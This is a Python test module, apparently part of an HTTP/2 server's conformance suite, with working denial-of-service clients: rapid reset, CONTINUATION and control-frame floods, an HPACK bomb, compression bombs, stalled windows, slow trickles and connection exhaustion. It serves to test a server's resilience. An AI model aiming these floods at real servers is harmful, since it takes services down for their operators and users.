"""Hostile HTTP/2 clients, one function each: (address, seconds) -> what became of the attacker.

Every attack keeps on for its whole time: where the server closes the connection, it opens the next.
"""

from __future__ import annotations

import contextlib
import gzip
import struct
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Final

from tests.conformance import frames
from tests.conformance.corpus_calls import infer_data
from tests.conformance.frames import Closed, RawConnection, frame
from tests.conformance.rpc import BASE, message
from tests.support.transports import Ask, Given

_LARGE_BYTES: Final = 1 << 20
_READ_S: Final = 0.0005
_TRICKLE_S: Final = 0.1
_OPENING: Final = frames.PREFACE + frames.settings() + frame(frames.SETTINGS, frames.ACK, 0)


@dataclass(slots=True)
class Fate:
    """What became of an attacker."""

    connections: int = 0
    sent: int = 0
    """Frames, requests or bytes, as the attack counts them."""
    codes: Counter[str] = field(default_factory=Counter)
    """Codes of the GOAWAYs it got; `reset N` of streams; `closed` without a GOAWAY; `served` where
    it was still connected at the end."""


Send = Callable[[RawConnection, int], int]
"""Send some of an attack on a connection; the number goes up; returns how much was sent."""


def _large(byte_count: int = _LARGE_BYTES) -> bytes:
    """Return a call whose answer is a thousand times as large as itself."""
    data = bytes(byte_count)
    given = Given(name="x", datatype="FP32", shape=(1, byte_count // 4), elements=[], raw=data)
    asked = infer_data(Ask(model="echo_fp32", inputs=(given,)))
    return message(gzip.compress(asked, mtime=0), 1)


def _small() -> bytes:
    given = Given(name="x", datatype="FP32", shape=(1, 2), elements=[1.0, 2.0])
    return message(infer_data(Ask(model="echo_fp32", inputs=(given,))))


_SMALL: Final = _small()
_HEAD: Final = frames.literals(BASE)
_GZIP_HEAD: Final = _HEAD + frames.literals([("grpc-encoding", "gzip")])
_UNREAD_CALLS: Final = 100
_INFLATED_BYTES: Final = 24 << 20


def keep_on(
    address: str,
    seconds: float,
    send: Send,
    *,
    offered: tuple[tuple[int, int], ...] = (),
    is_polite: bool = True,
) -> Fate:
    """Attack until the time is up, on as many connections as it takes, one at a time."""
    fate, end = Fate(), time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            connection = RawConnection(address, offered=offered, is_polite=is_polite).start()
        except (OSError, Closed):
            fate.codes["refused"] += 1
            time.sleep(0.01)
            continue
        fate.connections += 1
        _attack(connection, send, fate, end)
        connection.socket.close()
    return fate


def _attack(connection: RawConnection, send: Send, fate: Fate, end: float) -> None:
    number = 0
    try:
        while time.monotonic() < end and not connection.is_closed and not connection.goaways:
            fate.sent += send(connection, number)
            connection.pump(_READ_S)
            number += 1
    except (Closed, OSError):
        connection.drain(0.5)
    note(connection, fate)


def note(connection: RawConnection, fate: Fate) -> None:
    """Count how a connection ended."""
    if connection.goaways:
        fate.codes[str(connection.goaways[-1][1])] += 1
    else:
        fate.codes["closed" if connection.is_closed else "served"] += 1
    for received in connection.streams.values():
        if received.reset_code is not None:
            fate.codes[f"reset {received.reset_code}"] += 1


def _call(stream: int, data: bytes = _SMALL) -> bytes:
    return frame(frames.HEADERS, frames.END_HEADERS, stream, _HEAD) + frame(
        frames.DATA, frames.END_STREAM, stream, data
    )


def rapid_reset(address: str, seconds: float) -> Fate:
    """Calls that are reset in the same packet (CVE-2023-44487)."""

    def send(connection: RawConnection, number: int) -> int:
        streams = range(200 * number + 1, 200 * number + 201, 2)
        connection.send(b"".join(_call(stream) + frames.reset(stream) for stream in streams))
        return len(streams)

    return keep_on(address, seconds, send)


def made_resets(address: str, seconds: float) -> Fate:
    """Calls that the server itself must reset (CVE-2025-8671): a window update of zero."""

    def send(connection: RawConnection, number: int) -> int:
        streams = range(200 * number + 1, 200 * number + 201, 2)
        zero = struct.pack(">I", 0)
        connection.send(
            b"".join(_call(s) + frame(frames.WINDOW_UPDATE, 0, s, zero) for s in streams)
        )
        connection.streams.clear()
        return len(streams)

    return keep_on(address, seconds, send)


def continuations(address: str, seconds: float) -> Fate:
    """A head that never ends (CVE-2024-27316 and others)."""
    part = frame(frames.CONTINUATION, 0, 1, frames.literals([("x-more", "v" * 1_000)]))

    def send(connection: RawConnection, number: int) -> int:
        connection.send((frame(frames.HEADERS, 0, 1, _HEAD) if number == 0 else b"") + part * 10)
        return 10

    return keep_on(address, seconds, send)


def empty_continuations(address: str, seconds: float) -> Fate:
    """A head that never ends and never grows."""
    part = frame(frames.CONTINUATION, 0, 1) * 200

    def send(connection: RawConnection, number: int) -> int:
        connection.send((frame(frames.HEADERS, 0, 1, _HEAD) if number == 0 else b"") + part)
        return 200

    return keep_on(address, seconds, send)


def _flood(data: bytes, count: int = 200) -> Callable[[str, float], Fate]:
    def attack(address: str, seconds: float) -> Fate:
        def send(connection: RawConnection, _: int) -> int:
            connection.send(data * count)
            return count

        return keep_on(address, seconds, send, is_polite=False)

    return attack


pings = _flood(frame(frames.PING, 0, 0, b"12345678"))
pongs = _flood(frame(frames.PING, frames.ACK, 0, b"12345678"))
settings = _flood(frames.settings([(frames.INITIAL_WINDOW_SIZE, 65_535)]))
settings_of_tables = _flood(
    frames.settings([(frames.HEADER_TABLE_SIZE, 0)])
    + frames.settings([(frames.HEADER_TABLE_SIZE, 4_096)])
)
settings_acks = _flood(frame(frames.SETTINGS, frames.ACK, 0))
priorities = _flood(frame(frames.PRIORITY, 0, 1, b"\0\0\0\0\x10"))
window_updates = _flood(frames.window_update(0, 1))
unknown_frames = _flood(frame(0x77, 0, 0, b"?"))
resets_of_nothing = _flood(frames.reset(1))


def empty_data(address: str, seconds: float) -> Fate:
    """A call of DATA frames without a byte in them."""
    part = frame(frames.DATA, 0, 1) * 200

    def send(connection: RawConnection, number: int) -> int:
        head = frame(frames.HEADERS, frames.END_HEADERS, 1, _HEAD) if number == 0 else b""
        connection.send(head + part)
        return 200

    return keep_on(address, seconds, send)


def padding(address: str, seconds: float) -> Fate:
    """A call of DATA frames with nothing but padding in them."""
    part = frame(frames.DATA, frames.PADDED, 1, b"\xff" + b"\0" * 255)

    def send(connection: RawConnection, number: int) -> int:
        if number == 0:
            connection.send(frame(frames.HEADERS, frames.END_HEADERS, 1, _HEAD))
        connection.send(part * 20)
        return 20

    return keep_on(address, seconds, send)


def window_overflow(address: str, seconds: float) -> Fate:
    """Windows opened beyond 2^31-1."""

    def send(connection: RawConnection, _: int) -> int:
        connection.send(frames.window_update(0, frames.MAX_WINDOW) * 2)
        return 2

    return keep_on(address, seconds, send)


def tables(address: str, seconds: float) -> Fate:
    """Small blocks that decode to large lists: an entry of the table, named a thousand times."""
    value = "v" * 3_900
    stored = b"\x40" + bytes([5]) + b"x-big" + frames.literals([("x-big", value)])[7:]

    def send(connection: RawConnection, number: int) -> int:
        block = (_HEAD + stored if number == 0 else _HEAD) + b"\xbe" * 1_000
        connection.send(frame(frames.HEADERS, frames.END_HEADERS, 2 * number + 1, block))
        return 1

    return keep_on(address, seconds, send)


def large_heads(address: str, seconds: float) -> Fate:
    """Heads over the limit, stream after stream."""
    block = _HEAD + frames.literals([(f"x-{n}", "v" * 1_000) for n in range(60)])
    parts = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]

    def send(connection: RawConnection, number: int) -> int:
        stream = 2 * number + 1
        kinds = [frames.HEADERS] + [frames.CONTINUATION] * (len(parts) - 1)
        last = len(parts) - 1
        connection.send(
            b"".join(
                frame(kind, frames.END_HEADERS if n == last else 0, stream, part)
                for n, (kind, part) in enumerate(zip(kinds, parts, strict=True))
            )
        )
        return 1

    return keep_on(address, seconds, send)


def too_many_streams(address: str, seconds: float) -> Fate:
    """Calls that are begun and never ended, as many as there is room for, and then more."""
    head = _HEAD

    def send(connection: RawConnection, number: int) -> int:
        streams = range(200 * number + 1, 200 * number + 201, 2)
        connection.send(
            b"".join(frame(frames.HEADERS, frames.END_HEADERS, s, head) for s in streams)
        )
        return len(streams)

    return keep_on(address, seconds, send)


def promised_messages(address: str, seconds: float) -> Fate:
    """Calls that announce large messages and send as much of each as the windows allow."""
    part = b"\0\x01\xff\xff\xff" + b"\0" * 16_000

    def send(connection: RawConnection, number: int) -> int:
        stream = 2 * number + 1
        connection.send(frame(frames.HEADERS, frames.END_HEADERS, stream, _HEAD))
        connection.send(frame(frames.DATA, 0, stream, part))
        return 1

    return keep_on(address, seconds, send)


def _unread(
    address: str, seconds: float, *, window: int, trickle: int = 0, reads: bool = True
) -> Fate:
    """Ask for large answers and take none of them, or a few bytes at a time."""
    fate, end = Fate(), time.monotonic() + seconds
    offered = ((frames.INITIAL_WINDOW_SIZE, window),)
    streams = range(1, 2 * _UNREAD_CALLS, 2)
    data = _large()
    while time.monotonic() < end:
        connection = RawConnection(address, offered=offered, is_polite=False).start()
        fate.connections += 1
        try:
            connection.send(frames.window_update(0, 1 << 30))
            for stream in streams:
                connection.send(frame(frames.HEADERS, frames.END_HEADERS, stream, _GZIP_HEAD))
                connection.send(frame(frames.DATA, frames.END_STREAM, stream, data))
                fate.sent += 1
            while time.monotonic() < end and not connection.is_closed:
                if reads:
                    connection.pump(0.05)
                else:
                    time.sleep(0.05)
                if trickle:
                    opened = [frames.window_update(stream, trickle) for stream in streams]
                    connection.send(b"".join(opened))
        except (Closed, OSError):
            connection.drain(0.5)
        note(connection, fate)
        connection.socket.close()
    return fate


def inflating(address: str, seconds: float) -> Fate:
    """Calls of a few kilobytes that inflate to the largest messages, many at once."""
    data = _large(_INFLATED_BYTES)

    def send(connection: RawConnection, number: int) -> int:
        for stream in range(32 * number + 1, 32 * number + 33, 2):
            connection.send(frame(frames.HEADERS, frames.END_HEADERS, stream, _GZIP_HEAD))
            parts = [data[at : at + 16_384] for at in range(0, len(data), 16_384)]
            for part in parts:
                end = frames.END_STREAM if part is parts[-1] else 0
                connection.send(frame(frames.DATA, end, stream, part))
        connection.pump(0.5)
        connection.streams.clear()
        return 16

    return keep_on(address, seconds, send)


def zero_windows(address: str, seconds: float) -> Fate:
    """Large answers into windows that are never opened."""
    return _unread(address, seconds, window=0)


def byte_windows(address: str, seconds: float) -> Fate:
    """Large answers into windows that are opened byte by byte."""
    return _unread(address, seconds, window=1, trickle=1)


def slow_reading(address: str, seconds: float) -> Fate:
    """Large answers into open windows, and a socket that is never read."""
    return _unread(address, seconds, window=1 << 30, reads=False)


def _trickled(
    address: str, seconds: float, data: bytes, *, count: int, opening: bytes = b""
) -> Fate:
    """Send the same bytes on many connections, an opening at once and the rest byte by byte."""
    fate, end = Fate(), time.monotonic() + seconds
    connections: list[tuple[RawConnection, int]] = []
    while time.monotonic() < end:
        while len(connections) < count:
            connection = RawConnection(address, is_polite=False)
            connection.send(opening)
            connections.append((connection, 0))
            fate.connections += 1
        left = []
        for connection, position in connections:
            try:
                connection.send(data[position : position + 1])
                connection.pump(0.0001)
            except (Closed, OSError):
                connection.is_closed = True
            if connection.is_closed:
                note(connection, fate)
                connection.socket.close()
            else:
                left.append((connection, min(position + 1, len(data))))
                fate.sent += 1
        connections = left
        time.sleep(_TRICKLE_S)
    for connection, _ in connections:
        note(connection, fate)
        connection.socket.close()
    return fate


def slow_prefaces(address: str, seconds: float) -> Fate:
    """Prefaces that arrive byte by byte."""
    return _trickled(address, seconds, frames.PREFACE, count=100)


def slow_heads(address: str, seconds: float) -> Fate:
    """HEADERS frames that arrive byte by byte."""
    return _trickled(address, seconds, _call(1), count=100, opening=_OPENING)


def slow_bodies(address: str, seconds: float) -> Fate:
    """Messages that arrive byte by byte, after a head that is there at once."""
    head = frame(frames.HEADERS, frames.END_HEADERS, 1, _HEAD)
    single = b"".join(frame(frames.DATA, 0, 1, bytes([byte])) for byte in _SMALL)
    return _trickled(address, seconds, single, count=100, opening=_OPENING + head)


def silent(address: str, seconds: float) -> Fate:
    """Connections that say nothing."""
    return _trickled(address, seconds, b"", count=300)


def idle(address: str, seconds: float) -> Fate:
    """Connections that are opened well and say nothing more."""
    return _crowd(address, seconds, 900)


def crowd(address: str, seconds: float) -> Fate:
    """More connections than the server takes."""
    return _crowd(address, seconds, 1_300)


def _crowd(address: str, seconds: float, count: int) -> Fate:
    fate, end = Fate(connections=count), time.monotonic() + seconds
    connections = []
    for _ in range(count):
        connection = RawConnection(address)
        with contextlib.suppress(Closed):
            connection.send(connection.opening)
        connections.append(connection)
        fate.sent += 1
    while time.monotonic() < end:
        for connection in connections:
            if not connection.is_closed:
                connection.pump(0.0001)
    for connection in connections:
        connection.pump(0.0001)
        note(connection, fate)
        connection.socket.close()
    return fate


ATTACKS: Final[dict[str, Callable[[str, float], Fate]]] = {
    "rapid reset": rapid_reset,
    "made resets": made_resets,
    "CONTINUATION flood": continuations,
    "empty CONTINUATION flood": empty_continuations,
    "PING flood": pings,
    "PING ACK flood": pongs,
    "SETTINGS flood": settings,
    "SETTINGS flood, tables": settings_of_tables,
    "SETTINGS ACK flood": settings_acks,
    "PRIORITY flood": priorities,
    "WINDOW_UPDATE flood": window_updates,
    "unknown frame flood": unknown_frames,
    "RST_STREAM on idle streams": resets_of_nothing,
    "empty DATA flood": empty_data,
    "padding flood": padding,
    "window overflow": window_overflow,
    "HPACK bomb": tables,
    "large heads": large_heads,
    "too many streams": too_many_streams,
    "promised messages": promised_messages,
    "inflating calls": inflating,
    "zero windows": zero_windows,
    "one-byte windows": byte_windows,
    "slow reading": slow_reading,
    "slow prefaces": slow_prefaces,
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "silent connections": silent,
    "idle connections": idle,
    "too many connections": crowd,
}
